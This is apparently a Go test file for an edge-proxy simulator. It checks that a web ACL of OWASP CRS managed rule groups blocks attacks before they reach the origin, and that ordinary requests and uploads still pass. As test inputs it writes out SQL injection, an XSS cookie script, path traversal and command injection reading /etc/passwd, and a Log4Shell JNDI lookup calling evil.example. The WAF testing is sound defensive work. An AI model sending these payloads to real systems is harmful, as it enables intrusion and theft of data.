package pop

import (
	"io"
	"net/http"
	"strings"
	"testing"
)

// managedACL runs AWS's managed rule group names on the OWASP CRS (through
// Coraza, internal/waf/managed), as an AWS web ACL would name them.
const managedACL = `{"Name":"crs-acl","DefaultAction":{"Allow":{}},"Rules":[
 {"Name":"common","Priority":0,"OverrideAction":{"None":{}},
  "Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"AWSManagedRulesCommonRuleSet"}}},
 {"Name":"sqli","Priority":1,"OverrideAction":{"None":{}},
  "Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"AWSManagedRulesSQLiRuleSet"}}},
 {"Name":"bad-inputs","Priority":2,"OverrideAction":{"None":{}},
  "Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"AWSManagedRulesKnownBadInputsRuleSet"}}},
 {"Name":"unix","Priority":3,"OverrideAction":{"None":{}},
  "Statement":{"ManagedRuleGroupStatement":{"VendorName":"AWS","Name":"AWSManagedRulesUnixRuleSet"}}}]}`

// TestManagedRuleGroupsThroughTiers: a web ACL of managed rule groups
// (the CRS) blocks SQL injection, XSS, path traversal, command injection
// and Log4Shell at the edge, in every topology, before the origin or a
// parent sees them; ordinary requests pass; the blocks are in the edge's
// counters and sampled requests, and no parent evaluates a request again.
func TestManagedRuleGroupsThroughTiers(t *testing.T) {
	origin := func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Cache-Control", "max-age=600")
		io.WriteString(rw, "object "+r.URL.Path)
	}
	attacks := []viewerReq{
		{path: "/search?q=1%27%20OR%20%271%27=%271"},                                       // SQL injection
		{path: "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E"},                // XSS
		{path: "/download?file=../../../../etc/passwd"},                                    // path traversal
		{path: "/ping?host=127.0.0.1;cat%20/etc/passwd"},                                   // command injection
		{path: "/api", header: []string{"X-Api-Version", "${jndi:ldap://evil.example/a}"}}, // Log4Shell
	}
	ordinary := []viewerReq{
		{path: "/"},
		{path: "/products?category=shoes&size=42&sort=price-asc"},
		{path: "/find?q=how+to+tie+a+tie"},
		{path: "/static/app.3f2a1b.js", header: []string{"Accept", "*/*", "Accept-Language", "en-GB,en;q=0.9"}},
		{path: "/blog/2026/12/a-post-about-caching?utm_source=newsletter"},
	}
	eachTopology(t, netOpts{}, origin, withWebACL(t, managedACL), func(t *testing.T, n *network) {
		for _, q := range attacks {
			if r := n.send(n.viewer, q); r.status != 403 {
				t.Errorf("attack %s %v: %d %q", q.path, q.header, r.status, r.body)
			}
		}
		for _, q := range ordinary {
			if r := n.send(n.viewer, q); r.status != 200 {
				t.Errorf("ordinary request %s: %d %q (a false positive)", q.path, r.status, r.body)
			}
		}
		for _, p := range []string{"/search", "/download", "/ping", "/api"} {
			if c := n.origin.count(p); c != 0 {
				t.Errorf("a blocked request for %s reached the origin %d times", p, c)
			}
		}
		m := wafMetrics(n.pops[n.viewer])
		blocked := m["common"].Blocked + m["sqli"].Blocked + m["bad-inputs"].Blocked + m["unix"].Blocked
		if blocked != int64(len(attacks)) || m["ALL"].Blocked != int64(len(attacks)) || m["ALL"].Allowed != int64(len(ordinary)) {
			t.Errorf("edge metrics %+v", m)
		}
		for _, id := range n.regionals() {
			if m := wafMetrics(n.pops[id]); m["ALL"].Allowed != 0 || m["ALL"].Blocked != 0 {
				t.Errorf("%s evaluated the edge's requests again: %+v", id, m)
			}
		}
		s := n.pops[n.viewer].snap.Load().all[0].waf.prog
		got := s.Sampled(s.MetricName(), n.clock.Now().Add(-1e12), n.clock.Now().Add(1e12), 100)
		nb := 0
		for _, sr := range got.SampledRequests {
			if sr.Action == "BLOCK" {
				nb++
			}
		}
		if nb != len(attacks) {
			t.Errorf("%d blocked requests sampled, want %d", nb, len(attacks))
		}
	})
}

// Bodies: the managed groups inspect a POST body (its first 16 KiB): an
// injection in a form is refused; a JSON API body and a multipart upload
// go through whole.
func TestManagedRuleGroupsBodies(t *testing.T) {
	w := newWorld(t, func(rw http.ResponseWriter, r *http.Request) { io.WriteString(rw, "stored") }, withWebACL(t, managedACL))
	if r := w.doBody("POST", "/login", strings.NewReader("user=admin%27%20OR%201%3D1--&pass=x"), "Content-Type", "application/x-www-form-urlencoded"); r.status != 403 {
		t.Fatalf("SQL injection in a form body: %d %q", r.status, r.body)
	}
	if c := w.origin.count("/login"); c != 0 {
		t.Fatal("the refused request reached the origin")
	}
	json := `{"order":{"id":1234,"items":[{"sku":"A-1","qty":2},{"sku":"B-7","qty":1}],"note":"leave at the door, thanks!"}}`
	if r := w.doBody("POST", "/api/orders", strings.NewReader(json), "Content-Type", "application/json"); r.status != 200 || r.body != "stored" {
		t.Fatalf("JSON API body: %d %q", r.status, r.body)
	}
	const mp = "--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday photo\r\n" +
		"--XyZ\r\nContent-Disposition: form-data; name=\"photo\"; filename=\"beach.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\r\n--XyZ--\r\n"
	if r := w.doBody("POST", "/upload", strings.NewReader(mp), "Content-Type", "multipart/form-data; boundary=XyZ"); r.status != 200 {
		t.Fatalf("multipart upload: %d %q", r.status, r.body)
	}
	if got := string(w.origin.lastBody("/upload")); got != mp {
		t.Fatalf("the origin got %d bytes of the upload, want %d", len(got), len(mp))
	}
}
